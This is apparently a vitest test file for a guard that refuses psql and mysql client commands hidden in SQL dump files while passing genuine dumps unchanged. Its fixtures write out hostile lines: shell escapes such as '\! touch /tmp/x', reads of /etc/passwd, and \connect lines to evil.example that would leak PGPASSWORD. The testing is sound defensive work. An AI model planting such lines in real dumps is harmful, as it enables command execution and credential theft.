// The dump guard refuses the psql / mysql client commands that act outside the database or end the load, and
// passes real dumps byte for byte: a command-looking line inside a string, a comment or COPY rows is data.
import {readFileSync} from 'node:fs'
import {join} from 'node:path'
import {Readable, Writable} from 'node:stream'
import {pipeline} from 'node:stream/promises'
import {gunzipSync} from 'node:zlib'
import {extractFixture, fixturePath, fixtureTestsRun} from '@bkcli/testkit'
import {describe, expect, it} from 'vitest'
import {createDumpGuard} from '../src/db/dump-guard.js'

/** Run `text` through the guard in chunks of `size` bytes: the bytes it passes, or the error it raised. */
async function guard(engine: 'postgres' | 'mysql', text: string | Buffer, size = 65536) {
  const bytes = Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8')
  const chunks: Buffer[] = []
  for (let i = 0; i < bytes.length; i += size) chunks.push(bytes.subarray(i, i + size))
  const out: Buffer[] = []
  const g = createDumpGuard(engine, 'd.sql')
  const sink = new Writable({
    write(chunk: Buffer, _e, cb) {
      out.push(chunk)
      cb()
    },
  })
  const error = await pipeline(Readable.from(chunks), g.filter, sink).then(
    () => undefined,
    (e: Error) => e.message,
  )
  return {error, out: Buffer.concat(out), open: g.openAtEnd()}
}

/** The guard's verdict must not depend on where the chunks split (1 byte, 7 bytes, whole). */
async function verdict(engine: 'postgres' | 'mysql', text: string | Buffer) {
  const results = await Promise.all([1, 7, 65536].map((size) => guard(engine, text, size)))
  for (const r of results.slice(1))
    expect({error: r.error, open: r.open}).toEqual({error: results[0]!.error, open: results[0]!.open})
  return results[0]!
}

describe('psql commands in a dump', () => {
  it.each([
    ['\\! touch /tmp/x', '\\!'],
    ['\\o /tmp/out', '\\o'],
    ['\\out /tmp/out', '\\out'],
    ['\\w /tmp/w', '\\w'],
    ['\\i /etc/passwd', '\\i'],
    ['\\ir x.sql', '\\ir'],
    ['\\include x.sql', '\\include'],
    ['\\copy t from /etc/passwd', '\\copy'],
    ['\\q', '\\q'],
    ['\\quit', '\\quit'],
    ['SELECT 1 \\g /tmp/x', '\\g'],
    ['SELECT 1 \\gx |cat', '\\gx'],
    ['SELECT 1 AS "ON_ERROR_STOP" \\gset', '\\gset'],
    ['\\setenv PAGER x', '\\setenv'],
    ['\\cd /', '\\cd'],
    ['\\set ON_ERROR_STOP off', '\\set'],
    ['\\if false', '\\if'],
    ['SELECT 1; \\! touch /tmp/x', '\\!'],
    ['\\echo `touch /tmp/x`', '\\echo with a `command` in its arguments'],
    ['\\echo hi \\\\ \\! touch /tmp/x', '\\!'],
  ])('refuses %s at its line', async (line, command) => {
    const {error, out} = await verdict('postgres', `SET x = 1;\n-- comment\n${line}\nSELECT 2;\n`)
    expect(error).toBe(
      `the dump d.sql has the psql command ${command} at line 3, which pg_dump never writes and bk will not run (it acts outside the database or ends the load early)`,
    )
    // the client acts on a line at its newline: that never reaches it
    expect(out.includes(Buffer.from(`${line}\n`))).toBe(false)
  })

  it('passes what pg_dump writes, and command-like text in strings, comments, dollar quotes and COPY rows', async () => {
    const dump = [
      '\\restrict abcDEF123',
      'SET standard_conforming_strings = on;',
      "SELECT pg_catalog.set_config('search_path', '', false);",
      '\\connect -reuse-previous=on "dbname=\'x\\\\y\'"',
      "INSERT INTO t VALUES (1, 'a\\'), (2, '\\! touch /tmp/x');",
      "INSERT INTO t VALUES (3, E'it\\'s\n\\q'), (4, 'multi",
      "\\! still the string');",
      "CREATE FUNCTION f() RETURNS text AS $fn$ SELECT '\\q' $fn$ LANGUAGE sql;",
      'CREATE FUNCTION g() RETURNS text AS $$',
      '\\! inside a dollar quote',
      '$$ LANGUAGE sql;',
      '/* a /* nested */ comment',
      '\\q */',
      '-- \\! in a comment',
      'COPY public.t (id, s) FROM stdin;',
      '1\t\\\\! touch /tmp/x',
      "2\tit's open",
      '\\q',
      '\\.',
      'SELECT 1 \\g',
      '\\echo done',
      '\\unrestrict abcDEF123',
      '',
    ].join('\n')
    const {error, out, open} = await verdict('postgres', dump)
    expect(error).toBeUndefined()
    expect(open).toBeUndefined()
    expect(out.equals(Buffer.from(dump))).toBe(true)
  })

  it('follows COPY split over lines, and escape strings when standard_conforming_strings is off', async () => {
    expect((await verdict('postgres', 'COPY t\n  FROM\n  stdin;\n\\!x\n\\.\n\\! y\n')).error).toMatch(
      /command \\! at line 6,/,
    )
    const off = "SET standard_conforming_strings = off;\nSELECT 'a\\';\n\\! y\n';\n\\q\n"
    expect((await verdict('postgres', off)).error).toMatch(/command \\q at line 5,/)
    const on = "SET standard_conforming_strings = on;\nSELECT 'a\\';\n\\! y\n"
    expect((await verdict('postgres', on)).error).toMatch(/command \\! at line 3,/)
  })

  it('takes \\connect only as pg_dump writes it: no host, port or other option (they would get PGPASSWORD)', async () => {
    const elsewhere = [
      '\\connect -reuse-previous=on "dbname=x host=127.0.0.1 port=54329"\n',
      '\\c x root evil.example\n',
      '\\connect postgresql://evil.example/x\n',
      '\\connect "host=evil.example dbname=x"\n',
      '\\connect -reuse-previous=on "dbname=\'x\' host=evil.example"\n',
    ]
    for (const line of elsewhere)
      expect((await verdict('postgres', `SELECT 1;\n${line}`)).error, line).toMatch(/command \\c(onnect)? to a server/)
    const pgDump = [
      '\\connect postgres\n',
      '\\connect "My.db"\r\n',
      '\\connect -reuse-previous=on "dbname=\'rv we""ir\\\\d\\\'x`id` host=y\'"\n',
      '\\connect - root\n',
    ]
    for (const line of pgDump) expect((await verdict('postgres', `SELECT 1;\n${line}`)).error, line).toBeUndefined()
  })

  it("keeps an E'…' string an escape string past a doubled quote", async () => {
    // psql reads one string `a'b' ; ` here, then runs the \! line
    const doubled = "SELECT E'a''b\\' ; ' AS x;\n\\! touch /tmp/x #'\n;\n"
    expect((await verdict('postgres', doubled)).error).toMatch(/command \\! at line 2,/)
  })

  it('notes a dump ending inside COPY rows or a string', async () => {
    expect((await verdict('postgres', 'SELECT 1;\nCOPY t (a) FROM stdin;\n1\n2\n')).open).toBe(
      'a COPY block begun at line 3',
    )
    expect((await verdict('postgres', "SELECT 1;\nINSERT INTO t VALUES ('abc\n")).open).toBe(
      'a quoted string begun at line 2',
    )
    expect((await verdict('postgres', 'SELECT $$x\n')).open).toBe('a dollar-quoted string begun at line 1')
  })
})

describe('mysql commands in a dump', () => {
  it.each([
    ['system touch /tmp/x', "'system touch /tmp/x'"],
    ['  SYSTEM touch /tmp/x', "'SYSTEM touch /tmp/x'"],
    ['\\! touch /tmp/x', '\\!'],
    ['source /etc/passwd', "'source /etc/passwd'"],
    ['\\. /etc/passwd', '\\.'],
    ['tee /tmp/x', "'tee /tmp/x'"],
    ['\\T /tmp/x', '\\T'],
    ['pager cat', "'pager cat'"],
    ['quit', "'quit'"],
    ['exit;', "'exit;'"],
    ['\\q', '\\q'],
    ['connect other 10.0.0.1', "'connect other 10.0.0.1'"],
    ['SELECT 1; \\! touch /tmp/x', '\\!'],
  ])('refuses %s at its line', async (line, command) => {
    const {error} = await verdict('mysql', `SET x = 1;\n-- comment\n${line}\nSELECT 2;\n`)
    expect(error).toBe(
      `the dump d.sql has the mysql command ${command} at line 3, which mysqldump never writes and bk will not run (it acts outside the database or ends the load early)`,
    )
  })

  it('passes what mysqldump / mariadb-dump write, and command-like text in strings and comments', async () => {
    const dump = [
      '/*M!999999\\- enable the sandbox mode */ ',
      "/*!40101 SET @OLD_SQL_MODE=@@SQL_MODE, SQL_MODE='NO_AUTO_VALUE_ON_ZERO' */;",
      'USE `db`;',
      "INSERT INTO `t` VALUES (1,'\\\\! touch /tmp/x\\nquit\\n\\\\q'),(2,'it\\'s \\\\'),(3,'multi",
      'system still the string',
      'quit\'),(4,"q\\"");',
      '# \\! a comment',
      '-- \\! a comment',
      '/* \\! a comment */',
      'DELIMITER ;;',
      "/*!50003 CREATE*/ /*!50003 TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.s = '\\\\!' */;;",
      'DELIMITER ;',
      'SELECT 1 \\g',
      '',
    ].join('\n')
    const {error, out, open} = await verdict('mysql', dump)
    expect(error).toBeUndefined()
    expect(open).toBeUndefined()
    expect(out.equals(Buffer.from(dump))).toBe(true)
  })

  it('takes a named command only where mysql does: its statement buffer empty (comments and blank lines aside)', async () => {
    const sql = 'SELECT 1;\n  \n-- c\n/* c */\nsystem echo ran\n'
    expect((await verdict('mysql', sql)).error).toMatch(/command 'system echo ran' at line 5,/)
    expect((await verdict('mysql', 'SELECT 2 \\g\nsystem echo ran\n')).error).toMatch(/at line 2,/)
    const oracle = 'CREATE PROCEDURE p()\nBEGIN\n  LOOP\n    EXIT WHEN 1;\n  END LOOP;\nEND;\n'
    expect((await verdict('mysql', oracle)).error).toBeUndefined()
    expect((await verdict('mysql', '/*!99999 x */\nsystem echo sql\n;\n')).error).toBeUndefined()
  })

  it('follows NO_BACKSLASH_ESCAPES and ANSI_QUOTES', async () => {
    const dump = "SET sql_mode = 'NO_BACKSLASH_ESCAPES';\nSELECT 'a\\';\n\\! touch /tmp/x\n"
    expect((await verdict('mysql', dump)).error).toMatch(/command \\! at line 3,/)
    const ansi = 'SET sql_mode = \'ANSI_QUOTES\';\nSELECT "a\\";\n\\! touch /tmp/x\n'
    expect((await verdict('mysql', ansi)).error).toMatch(/command \\! at line 3,/)
    expect((await verdict('mysql', 'INSERT INTO t VALUES (\\N);\n')).error).toBeUndefined()
    expect((await verdict('mysql', '\\C gbk\n')).error).toMatch(/command \\C at line 1,/)
  })

  it('takes sql_mode from a SET statement only, not from a row that mentions it', async () => {
    // mariadb-dump writes each row of an extended INSERT at a line's start
    const rows = "INSERT INTO `t` VALUES\n(1,'sql_mode=NO_BACKSLASH_ESCAPES'),\n(2,'it\\'s\\nsystem\\n');\n"
    expect((await verdict('mysql', rows)).error).toBeUndefined()
    const routine = "/*!50003 SET sql_mode = 'NO_BACKSLASH_ESCAPES' */ ;\nSELECT 'a\\';\n\\! touch /tmp/x\n"
    expect((await verdict('mysql', routine)).error).toMatch(/command \\! at line 3,/)
  })
})

describe.runIf(fixtureTestsRun())('real dumps pass the guard unchanged', () => {
  const dumps: [string, 'postgres' | 'mysql', () => Buffer][] = [
    ['roundup postgresql-dump.sql', 'postgres', () => readFileSync(fixturePath('roundup', 'postgresql-dump.sql'))],
    ['roundup mysql-dump.sql', 'mysql', () => readFileSync(fixturePath('roundup', 'mysql-dump.sql'))],
    [
      'trac pg_dump -C --inserts',
      'postgres',
      () =>
        gunzipSync(
          readFileSync(
            join(extractFixture('trac', 'postgres-hotcopy'), 'postgres-hotcopy', 'db', 'postgres-db-backup.sql.gz'),
          ),
        ),
    ],
    [
      'trac mysqldump',
      'mysql',
      () => readFileSync(join(extractFixture('trac', 'mysql-hotcopy'), 'mysql-hotcopy', 'db', 'mysql-db-backup.sql')),
    ],
  ]
  it.each(dumps)('%s', async (_name, engine, read) => {
    const bytes = read()
    const {error, out, open} = await guard(engine, bytes)
    expect(error).toBeUndefined()
    expect(open).toBeUndefined()
    expect(out.equals(bytes)).toBe(true)
  })
})
